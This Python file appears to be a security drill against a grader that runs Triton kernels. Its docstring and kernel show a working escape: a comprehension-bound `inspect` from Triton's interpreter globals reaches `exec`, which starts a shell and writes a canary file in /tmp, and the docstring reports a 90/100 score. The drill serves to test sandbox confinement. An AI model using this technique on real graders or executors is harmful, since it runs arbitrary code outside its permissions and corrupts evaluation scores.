"""Run any Python in the judge's executor: triton's interpreter copies its own module's globals
(inspect, np, triton, ...) into the module of a kernel it runs, and a name bound only in a
comprehension of the kernel body is not a local of the body around it, so `inspect` there is
the interpreter's. `inspect.builtins.exec` then runs the string below, as the grader's user:
it starts a shell and writes a file beside the grade, and where both work the kernel adds
with numpy, so the score says whether the executor was confined.

Scored 90/100 on the grader of commit 4c67950 (CPU interpreter, default mode: only the compile
check lost), with a shell started and the file written.
"""

ATTACK = "arbitrary code in the executor through the interpreter's globals"
LAYER = "files"
CANARY = "/tmp/drills-attack-interpreter-globals-exec"

import torch
import triton
import triton.language as tl

PAYLOAD = (
    "import os\n"
    "shell = os.system('true') == 0\n"
    "open('/tmp/drills-attack-interpreter-globals-exec', 'w').write('written by a kernel')\n"
    "x.handle.data += y.handle.data * shell\n"
)


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    [0 for inspect in ()]
    inspect.builtins.exec(PAYLOAD, {"x": x, "y": y})  # noqa: F821 - the interpreter's global
    tl.store(out_ptr + offsets, x, mask=mask)


def add(x: torch.Tensor, y: torch.Tensor, out: torch.Tensor | None = None) -> torch.Tensor:
    if out is None:
        out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK_SIZE=1024)
    return out
